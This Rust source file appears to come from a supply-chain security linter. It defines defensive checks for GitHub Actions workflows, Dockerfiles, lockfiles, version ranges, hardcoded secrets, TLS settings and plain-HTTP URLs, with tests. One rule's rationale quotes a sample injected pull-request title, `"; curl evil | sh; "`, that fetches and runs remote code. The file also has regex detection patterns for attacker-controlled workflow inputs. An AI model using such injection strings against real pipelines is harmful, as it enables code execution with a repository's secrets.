//! PSCF-SPM-MAR — Minimum Application Requirements: the baseline every
//! product meets. Each built-in check runs when the policy's
//! `requirements:` lists it (the built-in bundle lists them all).

use std::sync::LazyLock;

use regex::Regex;

use super::Context;
use super::registry::RuleInfo;
use crate::facts::{Dockerfile, Permissions, Spanned, Workflow};
use crate::finding::{Finding, RuleId, Severity};

pub const UNPINNED_ACTION: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/unpinned-action"),
    default_severity: Severity::Error,
    summary: "a workflow `uses:` is not pinned to a full 40-hex commit SHA (local `./` actions and digest-pinned `docker://` images are fine)",
    rationale: "Tags and branches are mutable: whoever controls the action's repository (or steals its credentials) can move `v4` to malicious code that then runs with your workflow's token and secrets. A commit SHA cannot be moved.",
    fix: "Pin to the full commit SHA of the release and keep the tag as a comment (`uses: actions/checkout@<40-hex sha> # v5.0.0`); Dependabot and Renovate update both.",
    example: "requirements:\n  - check: unpinned-action",
};

pub const WORKFLOW_PERMISSIONS: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/workflow-permissions"),
    default_severity: Severity::Warning,
    summary: "a workflow has no top-level `permissions:` (and not every job declares its own), uses `write-all`, or grants write scopes to every job",
    rationale: "Without `permissions:` the GITHUB_TOKEN gets the repository's default scopes, which may include write access to code and releases. Least privilege limits what a compromised step can do.",
    fix: "Add `permissions: { contents: read }` at the top of the workflow and grant write scopes only in the jobs that need them.",
    example: "requirements:\n  - check: workflow-permissions",
};

pub const DANGEROUS_TRIGGER: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/dangerous-trigger"),
    default_severity: Severity::Error,
    summary: "a `pull_request_target` or `workflow_run` workflow checks out the untrusted head of a pull request",
    rationale: "These triggers run with the base repository's secrets and a write token. Checking out and building the pull request's code there lets any fork run code with those privileges (a \"pwn request\").",
    fix: "Use `pull_request` for building untrusted code; if `pull_request_target` is needed, do not check out the head ref, or split privileged steps into a separate `workflow_run` that only consumes artifacts.",
    example: "requirements:\n  - check: dangerous-trigger",
};

pub const SCRIPT_INJECTION: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/script-injection"),
    default_severity: Severity::Error,
    summary: "an attacker-controlled `${{ github.event.* }}` expression (title, body, branch name, commit message…) is expanded inside `run:`",
    rationale: "`${{ }}` is substituted into the script before the shell runs it, so a pull-request title such as `\"; curl evil | sh; \"` becomes code in your job.",
    fix: "Pass the value through an environment variable and quote it in the shell: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo \"$TITLE\"`.",
    example: "requirements:\n  - check: script-injection",
};

pub const CONTAINER_ROOT_USER: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/container-root-user"),
    default_severity: Severity::Warning,
    summary: "a Dockerfile's final stage runs as root (no `USER`, or `USER root`/`0`)",
    rationale: "A process running as root inside a container turns any code-execution bug into root on the container, one kernel or runtime bug away from the host.",
    fix: "Create an unprivileged user and switch to it in the final stage: `USER 10001` (or `USER nonroot` on distroless images).",
    example: "requirements:\n  - check: container-root-user",
};

pub const UNPINNED_BASE_IMAGE: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/unpinned-base-image"),
    default_severity: Severity::Warning,
    summary: "`FROM` with no tag or `:latest` (or, when the policy asks, without an `@sha256:` digest)",
    rationale: "An untagged or `latest` base image changes under the same name: builds are not reproducible and a compromised or broken upstream image flows straight into the product.",
    fix: "Name an exact tag, and for full reproducibility the digest too: `FROM python:3.12-slim@sha256:<digest>`.",
    example: "requirements:\n  - check: unpinned-base-image\n    require-digest: true",
};

pub const LOCKFILE_MISSING: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/lockfile-missing"),
    default_severity: Severity::Error,
    summary: "an application manifest has no committed lockfile (Cargo with a binary, npm/pnpm/yarn packages that are not published libraries, Poetry/uv/Pipenv projects, Go modules without go.sum)",
    rationale: "Without a lockfile every build resolves versions anew: builds are not reproducible, and a compromised new release reaches production without anyone choosing it. Lockfiles are also what the component rules read for transitive dependencies.",
    fix: "Generate and commit the lockfile (`cargo generate-lockfile`, `npm install --package-lock-only`, `poetry lock`, `uv lock`, `go mod tidy`). Libraries opt out by being libraries: a Cargo package without a binary target, or an npm package with `name`, `version`, an entry point (`main`/`exports`/…) and no `\"private\": true`.",
    example: "requirements:\n  - check: lockfile-missing",
};

pub const UNBOUNDED_VERSION_RANGE: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/unbounded-version-range"),
    default_severity: Severity::Warning,
    summary: "a manifest accepts any version of a dependency: `*`, `latest`, `>=x` with no upper bound, no version at all, or a git branch",
    rationale: "An open-ended range lets the next major release (or a hijacked package's malicious release) in at the next lockfile refresh, unreviewed.",
    fix: "Bound the range above, e.g. `^1.4` (Cargo, npm), `>=2.31,<3` (PEP 440), or pin a git dependency to a tag or commit.",
    example: "requirements:\n  - check: unbounded-version-range",
};

pub const HARDCODED_SECRET: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/hardcoded-secret"),
    default_severity: Severity::Error,
    summary: "a known secret format (private key block, AWS key id, GitHub/GitLab/Slack/npm token, Stripe live key, Google API key, signed JWT, password in a URL) in a file of the tree",
    rationale: "A secret in the repository is readable by everyone who can read the repository, its forks and its history, forever. These formats are specific enough that a match is almost always real.",
    fix: "Revoke and rotate the secret first (removing it does not un-leak it), then load it from the environment or a secret manager. The finding shows only its first 4 characters.",
    example: "requirements:\n  - check: hardcoded-secret",
};

pub const TLS_VERIFICATION_DISABLED: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/tls-verification-disabled"),
    default_severity: Severity::Error,
    summary: "code or configuration turns certificate verification off (Python requests `verify` off, Node.js `rejectUnauthorized` off, Go `InsecureSkipVerify`, reqwest `danger_accept_invalid_certs`, `curl -k`, git `http.sslVerify` off, …)",
    rationale: "Without certificate verification TLS no longer authenticates the server: anyone on the network path can read and change the traffic.",
    fix: "Keep verification on; trust a private CA by adding its certificate to the trust store (`REQUESTS_CA_BUNDLE`, `NODE_EXTRA_CA_CERTS`, `tls.Config.RootCAs`) instead.",
    example: "requirements:\n  - check: tls-verification-disabled",
};

pub const INSECURE_TRANSPORT: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/insecure-transport"),
    default_severity: Severity::Warning,
    summary: "an `http://` endpoint (not loopback) in a manifest, lockfile source, workflow, Dockerfile or configuration file",
    rationale: "Plain HTTP can be read and modified in transit: a package index, download or API reached over it can be swapped for an attacker's.",
    fix: "Use `https://`. Loopback addresses, reserved example domains and schema identifiers are not flagged.",
    example: "requirements:\n  - check: insecure-transport",
};

pub const RULES: &[RuleInfo] = &[
    UNPINNED_ACTION,
    WORKFLOW_PERMISSIONS,
    DANGEROUS_TRIGGER,
    SCRIPT_INJECTION,
    CONTAINER_ROOT_USER,
    UNPINNED_BASE_IMAGE,
    LOCKFILE_MISSING,
    UNBOUNDED_VERSION_RANGE,
    HARDCODED_SECRET,
    TLS_VERIFICATION_DISABLED,
    INSECURE_TRANSPORT,
];

/// A finding of a built-in check, or `None` when the policy does not
/// require the check or switched the rule off.
fn check_finding(
    ctx: &Context<'_>,
    rule: &RuleInfo,
    at: &crate::location::Location,
    subject: &str,
    message: String,
    help: String,
) -> Option<Finding> {
    ctx.policy.requirement(&rule.id)?;
    let mut f = ctx.finding(rule, at, message)?;
    f.subject = subject.to_owned();
    f.help = Some(help);
    Some(f)
}

pub fn check(ctx: &Context<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for workflow in &ctx.facts.workflows {
        unpinned_actions(ctx, workflow, &mut out);
        if workflow.is_workflow {
            permissions(ctx, workflow, &mut out);
            dangerous_trigger(ctx, workflow, &mut out);
        }
        script_injection(ctx, workflow, &mut out);
    }
    for dockerfile in &ctx.facts.dockerfiles {
        root_user(ctx, dockerfile, &mut out);
        base_images(ctx, dockerfile, &mut out);
    }
    for missing in &ctx.facts.missing_lockfiles {
        out.extend(check_finding(
            ctx,
            &LOCKFILE_MISSING,
            &missing.manifest,
            missing.expected,
            format!(
                "`{}` has no committed lockfile ({}): {}",
                missing.manifest.path, missing.expected, missing.because
            ),
            format!(
                "generate and commit {} next to it (or above it, for a workspace member)",
                missing.expected
            ),
        ));
    }
    unbounded_ranges(ctx, &mut out);
    for hit in &ctx.facts.content_hits {
        out.extend(content_finding(ctx, hit));
    }
    out
}

fn content_finding(ctx: &Context<'_>, hit: &crate::facts::ContentHit) -> Option<Finding> {
    use crate::facts::HitKind;
    let (rule, subject, message, help) = match hit.kind {
        HitKind::Secret { format } => (
            &HARDCODED_SECRET,
            format!("{format} {}", hit.shown),
            format!("{format} `{}` is committed in the repository", hit.shown),
            "revoke and rotate it now, then read it from the environment or a secret manager"
                .to_owned(),
        ),
        HitKind::TlsDisabled { what } => (
            &TLS_VERIFICATION_DISABLED,
            hit.shown.clone(),
            format!("{what} turns certificate verification off"),
            "keep verification on; add a private CA to the trust store instead".to_owned(),
        ),
        HitKind::InsecureUrl => (
            &INSECURE_TRANSPORT,
            hit.shown.clone(),
            format!("`{}` is reached over plain HTTP", hit.shown),
            format!("use `{}`", hit.shown.replacen("http://", "https://", 1)),
        ),
    };
    check_finding(ctx, rule, &hit.location, &subject, message, help)
}

fn unbounded_ranges(ctx: &Context<'_>, out: &mut Vec<Finding>) {
    for c in ctx.facts.components.iter().filter(|c| c.direct) {
        let Some(requirement) = &c.requirement else {
            continue;
        };
        // What the manifest says decides (an npm `github:o/r` follows a
        // branch even when the lockfile pinned a commit); a git, URL or path
        // source with no version text is bounded by its tag, commit or file.
        let why = match (&c.source, requirement.is_empty()) {
            (
                crate::facts::Source::Git {
                    reference: None, ..
                },
                _,
            ) => Some("follows a git branch"),
            (crate::facts::Source::Registry(_), _) | (_, false) => {
                crate::version::unbounded(c.ecosystem(), requirement)
            }
            _ => None,
        };
        let Some(why) = why else { continue };
        let name = c.purl.without_version();
        let message = if requirement.is_empty() {
            format!("`{name}` names no version, so any release is accepted")
        } else {
            format!("`{name}` requires `{requirement}`, which {why}")
        };
        out.extend(check_finding(
            ctx,
            &UNBOUNDED_VERSION_RANGE,
            &c.location,
            &name.to_string(),
            message,
            "bound the range above (e.g. `^1.4`, `>=2.31,<3`) or pin a tag/commit".to_owned(),
        ));
    }
}

fn is_root(user: &str) -> bool {
    let name = user.split(':').next().unwrap_or(user);
    name == "root" || name == "0"
}

/// The final stage's effective user: its last `USER`, else that of the
/// stage it builds on.
fn effective_user(dockerfile: &Dockerfile, mut index: usize) -> Option<&Spanned> {
    for _ in 0..dockerfile.stages.len() {
        let stage = dockerfile.stages.get(index)?;
        if let Some(user) = stage.users.last() {
            return Some(user);
        }
        index = stage.parent?;
    }
    None
}

fn root_user(ctx: &Context<'_>, dockerfile: &Dockerfile, out: &mut Vec<Finding>) {
    let Some(last) = dockerfile.stages.len().checked_sub(1) else {
        return;
    };
    let Some(final_stage) = dockerfile.stages.get(last) else {
        return;
    };
    let help = "add an unprivileged user and `USER 10001` (or `USER nonroot` on distroless) to the final stage".to_owned();
    match effective_user(dockerfile, last) {
        Some(user) if is_root(&user.value) => out.extend(check_finding(
            ctx,
            &CONTAINER_ROOT_USER,
            &user.location,
            "root",
            format!("the final stage runs as `{}`", user.value),
            help,
        )),
        Some(_) => {}
        None => out.extend(check_finding(
            ctx,
            &CONTAINER_ROOT_USER,
            &final_stage.from,
            "unset",
            "the final stage sets no `USER`: the container runs as root".to_owned(),
            help,
        )),
    }
}

fn base_images(ctx: &Context<'_>, dockerfile: &Dockerfile, out: &mut Vec<Finding>) {
    let Some(requirement) = ctx.policy.requirement(&UNPINNED_BASE_IMAGE.id) else {
        return;
    };
    for image in dockerfile.stages.iter().filter_map(|s| s.image.as_ref()) {
        let problem = match (&image.tag, &image.digest) {
            (_, Some(_)) => None,
            (None, None) => Some("has no tag, so it means `latest`"),
            (Some(tag), None) if tag == "latest" => Some("uses the moving `latest` tag"),
            (Some(_), None) if requirement.require_digest => Some("is not pinned by digest"),
            _ => None,
        };
        if let Some(problem) = problem {
            out.extend(check_finding(
                ctx,
                &UNPINNED_BASE_IMAGE,
                &image.location,
                &image.reference,
                format!("base image `{}` {problem}", image.reference),
                "name an exact tag and pin the digest: `image:tag@sha256:<digest>`".to_owned(),
            ));
        }
    }
}

fn all_uses(workflow: &Workflow) -> impl Iterator<Item = &Spanned> {
    let jobs = workflow.jobs.iter().filter_map(|j| j.uses.as_ref());
    jobs.chain(
        workflow
            .jobs
            .iter()
            .flat_map(|j| &j.steps)
            .filter_map(|s| s.uses.as_ref()),
    )
}

fn is_hex(s: &str, len: usize) -> bool {
    s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Whether a `uses:` is immutable: a full commit SHA, a local action, or a
/// `docker://` image with a digest.
fn is_pinned(uses: &str) -> bool {
    if uses.starts_with("./") {
        return true;
    }
    if let Some(image) = uses.strip_prefix("docker://") {
        return image
            .split_once("@sha256:")
            .is_some_and(|(_, digest)| is_hex(digest, 64));
    }
    uses.rsplit_once('@')
        .is_some_and(|(_, reference)| is_hex(reference, 40))
}

fn unpinned_actions(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    for uses in all_uses(workflow).filter(|u| !is_pinned(&u.value)) {
        let (message, help) = if uses.value.starts_with("docker://") {
            (
                format!("`{}` is not pinned to an image digest", uses.value),
                "pin the image by digest: `docker://image:tag@sha256:<64 hex>`".to_owned(),
            )
        } else {
            let name = uses.value.split('@').next().unwrap_or(&uses.value);
            let tag = uses
                .value
                .rsplit_once('@')
                .map(|(_, t)| format!(" # {t}"))
                .unwrap_or_default();
            (
                format!("`{}` is not pinned to a commit SHA", uses.value),
                format!("pin it to the release's full commit SHA: `{name}@<40-hex sha>{tag}`"),
            )
        };
        out.extend(check_finding(
            ctx,
            &UNPINNED_ACTION,
            &uses.location,
            &uses.value,
            message,
            help,
        ));
    }
}

fn permissions(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    let every_job_declares =
        !workflow.jobs.is_empty() && workflow.jobs.iter().all(|j| j.permissions.is_some());
    match &workflow.permissions {
        None if !every_job_declares => out.extend(check_finding(
            ctx,
            &WORKFLOW_PERMISSIONS,
            &workflow.head,
            "missing",
            "no top-level `permissions:`: the GITHUB_TOKEN gets the repository's default scopes"
                .to_owned(),
            "add `permissions: { contents: read }` at the top and grant write scopes per job"
                .to_owned(),
        )),
        Some(Permissions::Scopes(scopes)) => {
            for (scope, level, at) in scopes.iter().filter(|(_, level, _)| level == "write") {
                out.extend(check_finding(
                    ctx,
                    &WORKFLOW_PERMISSIONS,
                    at,
                    scope,
                    format!("`{scope}: {level}` is granted to every job of the workflow"),
                    format!("move `{scope}: write` into the job that needs it"),
                ));
            }
        }
        _ => {}
    }
    let declared =
        std::iter::once(&workflow.permissions).chain(workflow.jobs.iter().map(|j| &j.permissions));
    for p in declared.flatten() {
        if let Permissions::Scalar(value, at) = p
            && value == "write-all"
        {
            out.extend(check_finding(
                ctx,
                &WORKFLOW_PERMISSIONS,
                at,
                "write-all",
                "`permissions: write-all` gives the token every write scope".to_owned(),
                "list only the scopes the job needs, e.g. `{ contents: read, pull-requests: write }`".to_owned(),
            ));
        }
    }
}

/// Refs that name the pull request's head (fork) code.
static UNTRUSTED_REF: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|refs/pull/|github\.event\.pull_request\.merge_commit_sha|github\.event\.pull_request\.head\.repo\.full_name").ok()
});

fn dangerous_trigger(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    let Some(trigger) = workflow
        .triggers
        .iter()
        .find(|t| *t == "pull_request_target" || *t == "workflow_run")
    else {
        return;
    };
    let Some(untrusted) = UNTRUSTED_REF.as_ref() else {
        return;
    };
    for step in workflow.jobs.iter().flat_map(|j| &j.steps) {
        let is_checkout = step
            .uses
            .as_ref()
            .is_some_and(|u| u.value.starts_with("actions/checkout@"));
        if !is_checkout {
            continue;
        }
        for (key, value) in step
            .with
            .iter()
            .filter(|(k, _)| k == "ref" || k == "repository")
        {
            if untrusted.is_match(&value.value) {
                out.extend(check_finding(
                    ctx,
                    &DANGEROUS_TRIGGER,
                    &value.location,
                    &format!("{trigger} {key}"),
                    format!("`{trigger}` workflow checks out the pull request's head (`{key}: {}`) with the base repository's secrets", value.value),
                    "build untrusted code under `pull_request`, or do not check out the head in this workflow".to_owned(),
                ));
            }
        }
    }
}

/// Contexts an outsider controls (titles, bodies, branch names, commit
/// messages and authors), after the list Scorecard and zizmor use.
static ATTACKER_CONTROLLED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"github\.head_ref|toJSON\(\s*github(\.event)?\s*\)|github\.event\.(",
        r"(issue|pull_request|discussion)\.(title|body)|comment\.body|review\.body|review_comment\.body|",
        r"pages(\.[^.\s]+|\[[^\]]*\])\.page_name|commits(\.[^.\s]+|\[[^\]]*\])\.(message|author\.(email|name))|",
        r"head_commit\.(message|author\.(email|name))|",
        r"pull_request\.head\.(ref|label|repo\.default_branch)|",
        r"workflow_run\.(head_branch|head_commit\.(message|author\.(email|name))|display_title)",
        r")"
    ))
    .ok()
});

fn script_injection(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    let Some(attacker) = ATTACKER_CONTROLLED.as_ref() else {
        return;
    };
    for expression in workflow
        .jobs
        .iter()
        .flat_map(|j| &j.steps)
        .flat_map(|s| &s.script_expressions)
    {
        let Some(found) = attacker.find(&expression.value) else {
            continue;
        };
        let context = found.as_str();
        let variable = context
            .rsplit('.')
            .next()
            .unwrap_or("VALUE")
            .to_ascii_uppercase()
            .replace(|c: char| !c.is_ascii_alphanumeric(), "_");
        out.extend(check_finding(
            ctx,
            &SCRIPT_INJECTION,
            &expression.location,
            &expression.value,
            format!("`${{{{ {} }}}}` expands attacker-controlled `{context}` into a script", expression.value),
            format!("pass it through the environment: `env: {{ {variable}: ${{{{ {context} }}}} }}` and use \"${variable}\" in the script"),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pinning() {
        assert!(is_pinned(
            "actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8"
        ));
        assert!(!is_pinned("actions/checkout@v4"));
        assert!(!is_pinned("actions/checkout@08c6903"));
        assert!(is_pinned("./.github/actions/x"));
        assert!(!is_pinned("docker://alpine:3.20"));
        assert!(is_pinned(
            "docker://alpine@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"
        ));
    }

    #[test]
    fn attacker_controlled_contexts() {
        let re = ATTACKER_CONTROLLED
            .as_ref()
            .unwrap_or_else(|| panic!("regex"));
        for bad in [
            "github.event.pull_request.title",
            "github.head_ref",
            "github.event.issue.body",
            "github.event.commits[0].message",
            "github.event.commits.*.author.name",
            "github.event.pages[1].page_name",
            "toJSON(github.event)",
            "github.event.workflow_run.head_branch",
        ] {
            assert!(re.is_match(bad), "{bad}");
        }
        for fine in [
            "github.event.pull_request.number",
            "github.sha",
            "env.TITLE",
            "github.event.issue.number",
            "inputs.name",
        ] {
            assert!(!re.is_match(fine), "{fine}");
        }
        assert!(
            UNTRUSTED_REF
                .as_ref()
                .is_some_and(|r| r.is_match("${{ github.event.pull_request.head.sha }}"))
        );
    }
}
